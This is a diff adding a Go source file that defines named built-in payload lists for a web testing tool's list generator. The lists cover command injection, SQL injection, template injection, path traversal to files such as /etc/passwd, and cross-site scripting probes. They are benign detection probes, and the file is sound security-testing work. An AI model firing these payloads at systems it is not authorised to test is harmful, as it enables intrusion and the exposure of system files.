@@ -0,0 +1,100 @@
+package proxyfs
+
+// builtinPayloads are the built in lists of payloads, selected by name with the
+// list generator.
+var builtinPayloads = map[string][]string{
+	"cmdi": {
+		";id",
+		"|id",
+		"||id",
+		"&id",
+		"&&id",
+		"`id`",
+		"$(id)",
+		";sleep 5",
+		"|sleep 5",
+		"&& sleep 5",
+		"`sleep 5`",
+		"$(sleep 5)",
+		"%0aid",
+		"& ping -n 5 127.0.0.1 &",
+		"| whoami",
+	},
+	"sqli": {
+		"'",
+		"''",
+		"\"",
+		"`",
+		"')",
+		"\")",
+		"' OR '1'='1",
+		"' OR '1'='1' --",
+		"' OR 1=1 --",
+		"\" OR \"1\"=\"1",
+		"\" OR 1=1 --",
+		"' OR 1=1#",
+		"admin' --",
+		"admin' #",
+		"' AND 1=2 --",
+		"' UNION SELECT NULL --",
+		"' UNION SELECT NULL,NULL --",
+		"' UNION SELECT NULL,NULL,NULL --",
+		"1 AND SLEEP(5)",
+		"1' AND SLEEP(5) --",
+		"'; WAITFOR DELAY '0:0:5' --",
+		"1; SELECT pg_sleep(5) --",
+		"' || (SELECT 1) || '",
+		"1 ORDER BY 1 --",
+		"1 ORDER BY 100 --",
+	},
+	"ssti": {
+		"{{7*7}}",
+		"${7*7}",
+		"<%= 7*7 %>",
+		"#{7*7}",
+		"${{7*7}}",
+		"{{7*'7'}}",
+		"*{7*7}",
+		"@(7*7)",
+		"{{config}}",
+		"{{self}}",
+		"${T(java.lang.Runtime)}",
+	},
+	"traversal": {
+		"../",
+		"../../",
+		"../../../",
+		"../../../../",
+		"../../../../../../etc/passwd",
+		"../../../../../../../../etc/passwd",
+		"..%2f..%2f..%2f..%2fetc%2fpasswd",
+		"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+		"..%252f..%252f..%252fetc%252fpasswd",
+		"....//....//....//etc/passwd",
+		"..\\..\\..\\..\\windows\\win.ini",
+		"..%5c..%5c..%5cwindows%5cwin.ini",
+		"/etc/passwd",
+		"/etc/passwd%00",
+		"C:\\windows\\win.ini",
+		"file:///etc/passwd",
+	},
+	"xss": {
+		"<script>alert(1)</script>",
+		"\"><script>alert(1)</script>",
+		"'><script>alert(1)</script>",
+		"<img src=x onerror=alert(1)>",
+		"\"><img src=x onerror=alert(1)>",
+		"<svg onload=alert(1)>",
+		"\"><svg onload=alert(1)>",
+		"javascript:alert(1)",
+		"\" onmouseover=\"alert(1)",
+		"' onmouseover='alert(1)",
+		"<iframe src=\"javascript:alert(1)\">",
+		"<body onload=alert(1)>",
+		"<details open ontoggle=alert(1)>",
+		"</script><script>alert(1)</script>",
+		"'-alert(1)-'",
+		"\"-alert(1)-\"",
+		"{{7*7}}",
+	},
+}